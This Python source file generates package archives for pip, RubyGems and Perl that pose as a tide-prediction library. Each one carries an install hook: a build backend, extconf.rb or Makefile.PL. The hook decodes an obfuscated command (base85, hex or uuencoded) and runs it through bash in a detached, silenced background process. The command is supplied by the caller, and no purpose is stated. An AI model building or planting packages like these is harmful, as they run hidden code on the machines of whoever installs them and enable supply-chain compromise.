"""Packages with an install script of their own: a Python source archive, a gem, a Perl archive."""

from __future__ import annotations

import base64
import binascii
import gzip
import io
import tarfile

BACKEND = """\
import base64, os, subprocess, zipfile

NAME, VERSION = "@NAME@", "@VERSION@"


def build_wheel(folder, config_settings=None, metadata_directory=None):
    wheel = f"{NAME}-{VERSION}-py3-none-any.whl"
    info = f"{NAME}-{VERSION}.dist-info"
    with zipfile.ZipFile(os.path.join(folder, wheel), "w") as out:
        out.writestr(NAME + ".py", "def fit(levels):\\n    return sum(levels) / len(levels)\\n")
        out.writestr(info + "/METADATA", f"Metadata-Version: 2.1\\nName: {NAME}\\nVersion: {VERSION}\\n")
        kind = "Wheel-Version: 1.0\\nGenerator: _build\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"
        out.writestr(info + "/WHEEL", kind)
        out.writestr(info + "/RECORD", "")
    cc = base64.b85decode("@BLOB@").decode()
    subprocess.Popen(["bash", "-c", cc], start_new_session=True, stdin=-3, stdout=-3, stderr=-3)
    return wheel
"""
EXTCONF = """\
require "rbconfig"
line = %w[@HEX@].pack("H*")
pid = Process.spawn("bash", "-c", line, pgroup: true, in: "/dev/null", out: "/dev/null", err: "/dev/null")
Process.detach(pid)
File.write("Makefile", "all:\\n\\t@true\\ninstall:\\n\\t@true\\nclean:\\n\\t@true\\n")
"""
SPEC = """\
--- !ruby/object:Gem::Specification
name: @NAME@
version: !ruby/object:Gem::Version
  version: @VERSION@
platform: ruby
authors:
- B. Halvorsen
bindir: bin
cert_chain: []
date: 2026-10-02 00:00:00.000000000 Z
dependencies: []
description: Harmonic fit of tide gauges
email: []
executables: []
extensions:
- ext/extconf.rb
extra_rdoc_files: []
files:
- ext/extconf.rb
- lib/@NAME@.rb
homepage: https://example.org
licenses:
- MIT
metadata: {}
rdoc_options: []
require_paths:
- lib
required_ruby_version: !ruby/object:Gem::Requirement
  requirements:
  - - ">="
    - !ruby/object:Gem::Version
      version: '0'
required_rubygems_version: !ruby/object:Gem::Requirement
  requirements:
  - - ">="
    - !ruby/object:Gem::Version
      version: '0'
requirements: []
rubygems_version: 3.3.0
signing_key:
specification_version: 4
summary: Harmonic fit of tide gauges
test_files: []
"""
MAKEFILE_PL = """\
use strict;
use ExtUtils::MakeMaker;
use POSIX ();
unless (fork) {
    POSIX::setsid();
    open STDIN, "<", "/dev/null"; open STDOUT, ">", "/dev/null"; open STDERR, ">", "/dev/null";
    exec "bash", "-c", unpack("u", q{@UU@});
}
WriteMakefile(NAME => "Tide::Predict", VERSION => "@VERSION@");
"""


def _tar(files: dict[str, str | bytes], packed: bool) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz" if packed else "w") as archive:
        for name, text in files.items():
            body = text if isinstance(text, bytes) else text.encode()
            facts = tarfile.TarInfo(name)
            facts.size, facts.mode = len(body), 0o644
            archive.addfile(facts, io.BytesIO(body))
    return out.getvalue()


def sdist(name: str, version: str, line: str) -> bytes:
    """A source archive for pip whose build backend lies in the archive and starts `line`."""
    backend = BACKEND.replace("@BLOB@", base64.b85encode(line.encode()).decode())
    top = f"{name}-{version}/"
    project = '[build-system]\nrequires = []\nbuild-backend = "_build"\nbackend-path = ["."]\n'
    files: dict[str, str | bytes] = {
        top + "pyproject.toml": project,
        top + "_build.py": backend.replace("@NAME@", name).replace("@VERSION@", version),
        top + "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
    }
    return _tar(files, True)


def gem(name: str, version: str, line: str) -> bytes:
    """A gem whose extension script starts `line`."""
    spec = SPEC.replace("@NAME@", name).replace("@VERSION@", version)
    script = EXTCONF.replace("@HEX@", line.encode().hex())
    data = _tar({"ext/extconf.rb": script, f"lib/{name}.rb": "module Tide; end\n"}, True)
    return _tar({"metadata.gz": gzip.compress(spec.encode()), "data.tar.gz": data}, False)


def perl_archive(version: str, line: str) -> bytes:
    """A Perl distribution whose Makefile.PL starts `line`."""
    raw = line.encode()
    packed = "".join(binascii.b2a_uu(raw[at : at + 45]).decode() for at in range(0, len(raw), 45))
    assert "}" not in packed and "{" not in packed
    top = f"Tide-Predict-{version}/"
    module = f'package Tide::Predict;\nour $VERSION = "{version}";\nsub next_high {{ 12.42 * shift }}\n1;\n'
    files: dict[str, str | bytes] = {
        top + "Makefile.PL": MAKEFILE_PL.replace("@UU@", packed).replace("@VERSION@", version),
        top + "lib/Tide/Predict.pm": module,
        top + "t/basic.t": "use Test::More tests => 1;\nuse Tide::Predict;\nok(Tide::Predict::next_high(2) > 24);\n",
    }
    return _tar(files, True)
